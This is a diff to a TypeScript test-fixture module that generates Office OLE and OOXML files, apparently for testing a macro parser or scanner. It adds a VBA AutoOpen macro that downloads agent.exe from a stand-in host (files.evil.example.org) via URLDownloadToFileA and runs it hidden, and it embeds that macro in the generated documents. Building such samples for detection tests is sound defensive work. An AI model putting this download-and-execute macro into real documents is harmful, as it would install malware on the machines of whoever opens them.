@@ -1,11 +1,25 @@
 import * as cfb from 'cfb'
 import { makeZip } from '../cli/support/make-zip.ts'
+import { addVbaProject } from './vba-project.ts'
+
+/** Code that downloads a program and starts it. */
+export const MACRO_CODE = `Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr) As Long
+' A comment of the author
+Sub AutoOpen()
+  Dim target As String
+  target = Environ("TEMP") & "\\agent.exe"
+  Fetch 0, "http://files.evil.example.org/agent.exe", target, 0, 0
+  CreateObject("WScript.Shell").Run target, vbHide
+End Sub`
 
 /** An OLE document with two VBA modules and an author. */
-export function makeOle(): Buffer {
+export function makeOle({ code = MACRO_CODE } = {}): Buffer {
   const file = cfb.utils.cfb_new()
-  for (const name of ['ThisDocument', 'Module1', 'dir', '_VBA_PROJECT', '__SRP_0'])
-    cfb.utils.cfb_add(file, `/Macros/VBA/${name}`, Buffer.alloc(32, 7))
+  addVbaProject(file, '/Macros', [
+    { name: 'ThisDocument', code: '' },
+    { name: 'Module1', code },
+  ])
+  cfb.utils.cfb_add(file, '/Macros/VBA/__SRP_0', Buffer.alloc(32, 7))
   cfb.utils.cfb_add(file, '/WordDocument', Buffer.alloc(5000, 1))
   cfb.utils.cfb_add(file, '/\x05SummaryInformation', summary())
   return Buffer.from(cfb.write(file, { type: 'buffer' }))
@@ -56,7 +70,7 @@ export async function makeOoxml(): Promise<Buffer> {
 
 function makeVbaProject(): Buffer {
   const file = cfb.utils.cfb_new()
-  for (const name of ['dir', 'NewMacros']) cfb.utils.cfb_add(file, `/VBA/${name}`, Buffer.alloc(32, 7))
+  addVbaProject(file, '', [{ name: 'NewMacros', code: MACRO_CODE }])
   return Buffer.from(cfb.write(file, { type: 'buffer' }))
 }
 
